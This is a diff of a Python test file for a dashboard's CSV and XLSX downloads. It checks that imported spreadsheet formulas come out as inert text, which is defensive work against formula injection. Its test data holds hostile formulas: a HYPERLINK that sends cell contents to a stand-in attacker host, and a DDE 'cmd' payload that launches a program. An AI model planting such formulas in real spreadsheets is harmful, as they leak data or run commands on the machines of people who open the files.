@@ -20,7 +20,10 @@ from dashboard.config import REPO_ROOT
 from dashboard.data import importer
 from dashboard.data.loader import clear_cache
 from dashboard.ui import export
-from dashboard.web.app import app  # registers the pages' export builders
+
+# The app fixture builds the app, which imports the pages: they register the export builders.
+pytestmark = pytest.mark.usefixtures("app")
+
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
@@ -132,9 +135,14 @@ QUERIES = {
 }
 
 
-@pytest.mark.parametrize("view", export.views())
-def test_every_download_of_imported_formulas_is_inert(hostile_import, view):
-    client = app.server.test_client()
+def test_the_views_below_are_every_download():
+    # The pages register their downloads when the app is built (the app fixture, above), after
+    # the parameters below are collected: this keeps that list complete.
+    assert set(export.views()) == set(QUERIES)
+
+
+@pytest.mark.parametrize("view", sorted(QUERIES))
+def test_every_download_of_imported_formulas_is_inert(hostile_import, view, client):
     query = QUERIES.get(view, "")
     csv_response = client.get(f"/nedladdning/{view}.csv?{query}")
     assert csv_response.status_code == 200
@@ -144,7 +152,6 @@ def test_every_download_of_imported_formulas_is_inert(hostile_import, view):
     assert_no_live_formula_in_xlsx(xlsx_response.data)
 
 
-def test_imported_formula_is_shown_as_text_in_the_overview_download(hostile_import):
-    client = app.server.test_client()
+def test_imported_formula_is_shown_as_text_in_the_overview_download(hostile_import, client):
     text = client.get(f"/nedladdning/oversikt.csv?{QUERIES['oversikt']}").data.decode("utf-8-sig")
     assert "'=cmd|' /C calc'!A0" in text and "'+SUM(1)" in text
